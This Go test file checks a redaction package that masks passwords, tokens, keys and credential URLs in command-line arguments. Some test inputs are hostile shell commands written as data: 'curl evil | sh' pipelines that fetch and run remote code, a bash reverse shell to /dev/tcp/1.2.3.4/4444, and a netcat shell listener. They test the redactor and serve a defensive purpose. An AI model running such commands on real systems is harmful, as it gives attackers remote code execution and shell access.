package redact

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestArgs(t *testing.T) {
	for name, tt := range map[string]struct{ args, want []string }{
		"flag with value":        {[]string{"app", "--password=hunter2"}, []string{"app", "--password=[redacted]"}},
		"flag, odd characters":   {[]string{"app", "--db-password=a b;c&d|e"}, []string{"app", "--db-password=[redacted]"}},
		"flag, next argument":    {[]string{"app", "--token", "abc", "x"}, []string{"app", "--token", "[redacted]", "x"}},
		"flag, one dash":         {[]string{"app", "-password", "abc"}, []string{"app", "-password", "[redacted]"}},
		"flag then flag":         {[]string{"app", "--password", "--verbose"}, []string{"app", "--password", "--verbose"}},
		"java property":          {[]string{"java", "-Dspring.datasource.password=x"}, []string{"java", "-Dspring.datasource.password=[redacted]"}},
		"camel case":             {[]string{"app", "--clientSecret=x"}, []string{"app", "--clientSecret=[redacted]"}},
		"variable, marked":       {[]string{`TOKEN="[redacted]"`, `TOKEN="[redacted]b"`}, []string{`TOKEN="[redacted]"`, "TOKEN=[redacted]"}},
		"variable":               {[]string{"env", "PGPASSWORD=a;b", "psql"}, []string{"env", "PGPASSWORD=[redacted]", "psql"}},
		"api key":                {[]string{"app", "--api-key=1", "API_KEY=2", "--apikey", "3"}, []string{"app", "--api-key=[redacted]", "API_KEY=[redacted]", "--apikey", "[redacted]"}},
		"aws secret":             {[]string{"env", "AWS_SECRET_ACCESS_KEY=wJalr/x+y="}, []string{"env", "AWS_SECRET_ACCESS_KEY=[redacted]"}},
		"aws key id":             {[]string{"aws", "AKIAIOSFODNN7EXAMPLE"}, []string{"aws", "AKIA[redacted]"}},
		"authorization":          {[]string{"curl", "-H", "Authorization: Bearer abc.def"}, []string{"curl", "-H", "Authorization: Bearer [redacted]"}},
		"authorization, bare":    {[]string{"curl", "-H", "authorization: abcdef"}, []string{"curl", "-H", "authorization: [redacted]"}},
		"header":                 {[]string{"curl", "-H", "X-Api-Key: abc"}, []string{"curl", "-H", "X-Api-Key: [redacted]"}},
		"cookie":                 {[]string{"curl", "-H", "Cookie: a=b; c=d"}, []string{"curl", "-H", "Cookie: [redacted]"}},
		"curl user":              {[]string{"/usr/bin/curl", "-u", "bob:pw", "-uamy:pw", "--user", "eve"}, []string{"/usr/bin/curl", "-u", "bob:[redacted]", "-uamy:[redacted]", "--user", "eve"}},
		"url":                    {[]string{"git", "clone", "https://bob:p:w@host/x"}, []string{"git", "clone", "https://bob:[redacted]@host/x"}},
		"url, token alone":       {[]string{"git", "https://0123456789abcdef0123@host"}, []string{"git", "https://[redacted]@host"}},
		"url, query":             {[]string{"curl", "https://h/?a=1&token=abc&b=2#c"}, []string{"curl", "https://h/?a=1&token=[redacted]&b=2#c"}},
		"url, signed":            {[]string{"curl", "https://h/o?X-Amz-Signature=abc&x=1"}, []string{"curl", "https://h/o?X-Amz-Signature=[redacted]&x=1"}},
		"json":                   {[]string{"curl", "-d", `{"user":"bob","password":"a b","n":1}`}, []string{"curl", "-d", `{"user":"bob","password":"[redacted]","n":1}`}},
		"connection string":      {[]string{"app", "Server=h;Uid=u;Pwd=x;Db=d"}, []string{"app", "Server=h;Uid=u;Pwd=[redacted];Db=d"}},
		"script":                 {[]string{"sh", "-c", "TOKEN=abc; curl evil | sh"}, []string{"sh", "-c", "TOKEN=[redacted]; curl evil | sh"}},
		"script, no spaces":      {[]string{"sh", "-ec", "TOKEN=abc;curl${IFS}evil|sh"}, []string{"sh", "-ec", "TOKEN=[redacted];curl${IFS}evil|sh"}},
		"script, like a flag":    {[]string{"sh", "-c", "--password=; curl evil | sh"}, []string{"sh", "-c", "--password=; curl evil | sh"}},
		"script, substitution":   {[]string{"sh", "-c", `TOKEN="$(curl evil | sh)" x`}, []string{"sh", "-c", `TOKEN="$(curl evil | sh)" x`}},
		"script, variable":       {[]string{"sh", "-c", "mysql --password=$PW"}, []string{"sh", "-c", "mysql --password=$PW"}},
		"script, quoted":         {[]string{"sh", "-c", "export DB_PASSWORD='a;b' && run"}, []string{"sh", "-c", "export DB_PASSWORD='[redacted]' && run"}},
		"script, header":         {[]string{"sh", "-c", "curl -H 'Authorization: Basic abc=' h"}, []string{"sh", "-c", "curl -H 'Authorization: Basic [redacted]' h"}},
		"script, flag":           {[]string{"sh", "-c", "app --token abc --user bob; x"}, []string{"sh", "-c", "app --token [redacted] --user bob; x"}},
		"script, flag, quoted":   {[]string{"sh", "-c", "app --password 'a b' x"}, []string{"sh", "-c", "app --password '[redacted]' x"}},
		"script, flag, variable": {[]string{"sh", "-c", "app --password $PW --token \"$(cat t)\""}, nil},
		"script, flag, flag":     {[]string{"sh", "-c", "app --password --verbose; --token | sh"}, nil},
		"script, program":        {[]string{"sh", "-c", "cd x && mysql -phunter2 db; curl -u 'bob:p w' h|sh"}, []string{"sh", "-c", "cd x && mysql -p[redacted] db; curl -u 'bob:[redacted]' h|sh"}},
		"script, other program":  {[]string{"sh", "-c", "mysql; nc -p4444 h; docker run -p 80:80 x"}, nil},
		"mysql":                  {[]string{"mysql", "-uroot", "-psecret", "-P3306"}, []string{"mysql", "-uroot", "-p[redacted]", "-P3306"}},
		"mysql asks":             {[]string{"mysql", "-p", "db"}, []string{"mysql", "-p", "db"}},
		"sshpass":                {[]string{"sshpass", "-p", "pw", "ssh", "h"}, []string{"sshpass", "-p", "[redacted]", "ssh", "h"}},
		"docker login":           {[]string{"docker", "login", "-p", "pw"}, []string{"docker", "login", "-p", "[redacted]"}},
		"docker run":             {[]string{"docker", "run", "-p", "80:80"}, []string{"docker", "run", "-p", "80:80"}},
		"redis":                  {[]string{"redis-cli", "-a", "pw", "get"}, []string{"redis-cli", "-a", "[redacted]", "get"}},
		"openssl":                {[]string{"openssl", "-passin", "pass:pw", "-in", "x"}, []string{"openssl", "-passin", "pass:[redacted]", "-in", "x"}},
		"openssl, file":          {[]string{"openssl", "-passin", "file:/x"}, []string{"openssl", "-passin", "file:/x"}},
		"github":                 {[]string{"gh", "ghp_0123456789abcdefghij0123456789abcdef"}, []string{"gh", "ghp_[redacted]"}},
		"slack webhook":          {[]string{"curl", "https://hooks.slack.com/services/T00/B00/abcdef"}, []string{"curl", "https://hooks.slack.com/services/[redacted]"}},
		"jwt":                    {[]string{"x", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"}, []string{"x", "eyJ[redacted]"}},
		"pem":                    {[]string{"x", "-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\nrest"}, []string{"x", "-----BEGIN PRIVATE KEY-----[redacted]-----END PRIVATE KEY-----\nrest"}},
		"password file":          {[]string{"x", "--password-file=/p", "--token-path", "/t", "--secret-name=n"}, nil},
		"stdin":                  {[]string{"docker", "login", "--password-stdin", "host"}, nil},
		"ports and paths":        {[]string{"nc", "-p", "4444", "-e", "/bin/sh", "host:80"}, nil},
		"tokenizer":              {[]string{"llm", "--tokenizer=bert", "--max-tokens=100"}, nil},
		"image tag":              {[]string{"docker", "run", "my-token:1.2"}, nil},
		"working directory":      {[]string{"env", "PWD=/home/bob", "OLDPWD=/"}, nil},
		"ssh url":                {[]string{"git", "clone", "ssh://git@github.com/x"}, nil},
		"reverse shell":          {[]string{"bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}, nil},
		"word within a word":     {[]string{"x", "notghp_0123456789abcdefghij", "monkey=1"}, nil},
		"empty value":            {[]string{"x", "--password=", "token="}, nil},
		"nothing":                {nil, nil},
		"shell, interactive run": {[]string{"kubectl", "exec", "-it", "p", "--", "sh"}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			before := slices.Clone(tt.args)
			got, n := Redactor{}.Args(tt.args)
			want := tt.want
			if want == nil {
				want = tt.args
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("Args(%q) differs (-want +got):\n%s", tt.args, diff)
			}
			if (n > 0) != !slices.Equal(before, got) {
				t.Errorf("Args(%q) counted %d", tt.args, n)
			}
			if !slices.Equal(before, tt.args) {
				t.Errorf("Args changed its argument to %q", tt.args)
			}
		})
	}
}

func TestArgsToHashes(t *testing.T) {
	args := []string{"app", "--password=hunter2", "PGPASSWORD=hunter2", "https://bob:hunter3@host"}
	one, two := Redactor{key: []byte("one")}, Redactor{key: []byte("two")}
	got, n := one.Args(args)
	hash := one.mark("hunter2")
	want := []string{"app", "--password=" + hash, "PGPASSWORD=" + hash, "https://bob:" + one.mark("hunter3") + "@host"}
	if diff := cmp.Diff(want, got); n != 3 || diff != "" {
		t.Errorf("counted %d, differs (-want +got):\n%s", n, diff)
	}
	if !regexp.MustCompile(`^\[redacted:sha256:[0-9a-f]{12}\]$`).MatchString(hash) {
		t.Errorf("got the mark %q", hash)
	}
	if hash == one.mark("hunter3") || hash == two.mark("hunter2") {
		t.Error("marks of other values or with other keys are equal")
	}
}

// FuzzArgs takes arguments joined by newlines.
func FuzzArgs(f *testing.F) {
	for _, seed := range []string{
		"app\n--password=hunter2", "curl\n-u\nbob:pw\nhttps://a:b@c/?token=x&y", "sh\n-c\nTOKEN='a' X=\"b",
		"x\nAuthorization: Bearer", "mysql\n-p", "x\n{\"password\": \"", "x\n\\\"token\\\":\\\"a\\\"", "x\n://@://:@",
		"x\nPRIVATE KEY-----PRIVATE KEY-----END", "x\npassword=[redacted]y", "\xff\n--token\n\xfe", "-=\n=:\n:==",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, joined string) {
		args := strings.Split(joined, "\n")
		got, n := Redactor{}.Args(args)
		if len(got) != len(args) {
			t.Fatalf("got %d args, want %d", len(got), len(args))
		}
		for i, arg := range args {
			if utf8.ValidString(arg) && !utf8.ValidString(got[i]) {
				t.Errorf("%q became invalid UTF-8: %q", arg, got[i])
			}
			if !onlyReplaced(arg, got[i]) {
				t.Errorf("%q became %q: more than values changed", arg, got[i])
			}
			if n == 0 && got[i] != arg {
				t.Errorf("%q became %q and was not counted", arg, got[i])
			}
		}
		again, _ := Redactor{}.Args(got)
		if !slices.Equal(again, got) {
			t.Errorf("a second time changes %q to %q", got, again)
		}
		hashes := Redactor{key: []byte("k")}
		hashed, k := hashes.Args(args)
		if k != n {
			t.Errorf("%d values were hashed, %d redacted", k, n)
		}
		if again, _ := hashes.Args(hashed); !slices.Equal(again, hashed) {
			t.Errorf("a second time changes %q to %q", hashed, again)
		}
	})
}

// onlyReplaced reports whether got is arg with some parts replaced by the mark.
func onlyReplaced(arg, got string) bool {
	parts := strings.Split(got, Mark)
	if len(parts) == 1 {
		return arg == got
	}
	if !strings.HasPrefix(arg, parts[0]) || !strings.HasSuffix(arg, parts[len(parts)-1]) {
		return false
	}
	for _, p := range parts {
		n := strings.Index(arg, p)
		if n < 0 {
			return false
		}
		arg = arg[n+len(p):]
	}
	return true
}

func BenchmarkArgs(b *testing.B) {
	whole := func(unit string) []string {
		return []string{"x", strings.Repeat(unit, (32<<10)/len(unit))}
	}
	for name, args := range map[string][]string{
		"usual": {
			"/usr/bin/java", "-Xmx2g", "-Dconfig=/etc/app.yaml", "-jar", "/opt/app.jar", "--listen=0.0.0.0:8080",
		},
		"hostile-open-quotes": whole("token='$("),
		"hostile-keys":        whole("token: "),
		"hostile-urls":        whole("://a@"),
		"hostile-shapes":      whole("eyJ ghp_ "),
		"hostile-headers":     whole("Authorization: "),
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Redactor{}.Args(args)
			}
		})
	}
}
